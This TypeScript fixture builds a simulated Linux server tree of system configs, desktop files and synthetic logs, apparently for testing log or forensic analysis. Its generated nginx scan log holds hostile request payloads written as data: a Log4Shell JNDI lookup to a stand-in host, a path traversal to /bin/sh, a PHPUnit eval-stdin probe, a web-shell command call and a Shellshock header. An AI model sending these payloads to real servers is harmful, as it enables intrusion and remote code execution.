	tree.write('/etc/firefox/policies/policies.json', '{"policies":{"ExtensionSettings":{"uBlock0@raymondhill.net":{"installation_mode":"force_installed","install_url":"https://addons.mozilla.org/firefox/downloads/latest/ublock-origin/latest.xpi"}}}}\n');
	tree.write('/etc/postgresql/15/main/conf.d/own.conf', "shared_preload_libraries = 'pg_stat_statements,auto_explain'\nrestore_command = 'cp /var/backups/wal/%f %p'\nssl_passphrase_command = 'cat /etc/postgresql/ssl.pass'\n");
	tree.write('/etc/snmp/snmptrapd.conf', 'disableAuthorization yes\ntraphandle default /usr/sbin/snmptt\n');
	tree.write('/etc/snmp/snmpd.conf.d/own.conf', 'rocommunity s3cr3t 10.0.0.0/8\nextend backup /usr/local/sbin/backup --check\nextend os /usr/bin/distro\npass .1.3.6.1.4.1.2021.255 /usr/local/bin/report.py\n');
	tree.write('/etc/cron.d/own-more', 'MAILTO=""\nSHELL=/bin/bash\nBASH_ENV=/etc/profile\n*/10 * * * * root flock -n /run/lock/sync.lock /usr/local/sbin/backup --quick\n@hourly root docker run --rm -v /srv/data:/data alpine sh -c "find /data -mtime +30 -delete"\n30 * * * * deploy cd /srv/www/app && /usr/bin/php artisan schedule:run >> /dev/null 2>&1\n0 5 * * * root run-parts /usr/local/etc/cron.daily\n');
	tree.write('/etc/service/app/run', '#!/bin/sh\nexec 2>&1\nexec chpst -u deploy /usr/bin/node /opt/app/server.js\n', run);
	tree.append('/etc/fstab', 'nas.example.org:/homes /srv/home nfs4 _netdev,noatime 0 0\n/srv/images/debian.iso /mnt/iso iso9660 loop,ro 0 0\ntmpfs /var/cache/nginx tmpfs size=256m,uid=33 0 0\n10.0.0.9:/volume1/tools /opt/tools nfs ro,nosuid 0 0\n');
}

function desktops(tree: Tree): void {
	tree.write('/home/ada/.local/share/applications/firefox-esr.desktop', '[Desktop Entry]\nType=Application\nName=Firefox\nExec=env MOZ_ENABLE_WAYLAND=1 firefox-esr %u\n', ada);
	tree.write('/home/ada/.local/share/applications/notes.desktop', '[Desktop Entry]\nType=Application\nName=Notes\nExec=sh -c "cd ~/notes && vim"\n', ada);
	tree.write('/home/ada/.config/chromium/NativeMessagingHosts/org.keepassxc.keepassxc_browser.json', '{"name":"org.keepassxc.keepassxc_browser","path":"/usr/bin/keepassxc-proxy","type":"stdio"}\n', ada);
	tree.write('/home/grace/.config/sway/config', 'exec mako\nexec_always --no-startup-id ~/.config/sway/bar.sh\nbindsym $mod+Return exec foot\n', { owner: 'grace' });
	tree.write('/home/grace/.xprofile', 'setxkbmap de\nxset r rate 200 40\nnm-applet &\n', { owner: 'grace' });
	tree.write('/home/ada/.config/alacritty/alacritty.toml', '[terminal.shell]\nprogram = "/usr/bin/zsh"\nargs = ["-l"]\n', ada);
	tree.write('/home/ada/.local/share/gnome-shell/extensions/dash@own/extension.js', "const GLib = imports.gi.GLib;\nfunction enable() { GLib.spawn_command_line_async('gnome-terminal'); }\n", ada);
	tree.write('/etc/lightdm/lightdm.conf.d/50-own.conf', '[Seat:*]\ngreeter-hide-users=true\ndisplay-setup-script=/usr/bin/xrandr --auto\n');
}

/** An hour that came twice, a clock set by NTP, a rotation by size. */
function logs(tree: Tree): void {
	const adm = { group: 'adm', mode: 0o640 } as const;
	const old = (day: number, time: string, words: string): string => `Oct ${day} ${time} server ${words}\n`;
	tree.write('/var/log/daemon.log', old(26, '02:58:00', 'chronyd[400]: Selected source 10.0.0.1') + old(26, '02:59:30', 'cron[1]: ok') + old(26, '02:01:00', 'chronyd[400]: Selected source 10.0.0.2') + old(26, '02:30:00', 'cron[1]: ok') + old(26, '03:10:00', 'cron[1]: ok'), adm);
	tree.write('/var/log/user.log', `${stamp(start)} server systemd-timesyncd[300]: Initial clock synchronization to Sat 2025-10-25 00:00:00.1 UTC.\n${stamp(start - 40)} server app: started\n${stamp(start + 60)} server app: ready\n`, adm);
	tree.write('/var/log/own/size.log', 'x\n');
	for (const n of [1, 2, 3]) tree.write(`/var/log/own/size.log.${n}.gz`, gzipSync(`part ${n}\n`));
	tree.write('/var/log/apt/history.log.1.gz', gzipSync('Start-Date: 2025-09-01  06:00:00\nCommandline: /usr/bin/unattended-upgrade\nEnd-Date: 2025-09-01  06:01:00\n'));
	tree.write('/var/log/nginx/shop.access.log', Array.from({ length: 200 }, (_, n) => `${n % 3 === 0 ? '198.51.100.77' : `10.0.0.${n % 250}`} - - [25/Oct/2025:0${n % 10}:00:00 +0000] "${n % 3 === 0 ? 'GET /.env HTTP/1.1" 404 153 "-" "Mozilla/5.0 zgrab/0.x' : `GET /p/${n} HTTP/1.1" 200 ${4000 + n} "-" "Mozilla/5.0`}"\n`).join(''), { owner: 'www-data', group: 'adm', mode: 0o640 });
	tree.write('/var/log/nginx/scan.access.log', Array.from({ length: 60 }, (_, n) => `198.51.100.${n % 9} - - [25/Oct/2025:0${n % 10}:10:00 +0000] "${['GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1', 'GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1', 'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 'GET /wp-content/uploads/x.php?cmd=id HTTP/1.1'][n % 4]}" ${[404, 400, 404, 404][n % 4]} 150 "-" "() { :; }; echo"\n`).join(''), { owner: 'www-data', group: 'adm', mode: 0o640 });
	tree.write('/var/log/fail2ban.log', Array.from({ length: 40 }, (_, n) => `2025-10-25 0${n % 10}:00:00,123 fail2ban.actions [500]: NOTICE [sshd] Ban 198.51.100.${n}\n`).join(''), adm);
}
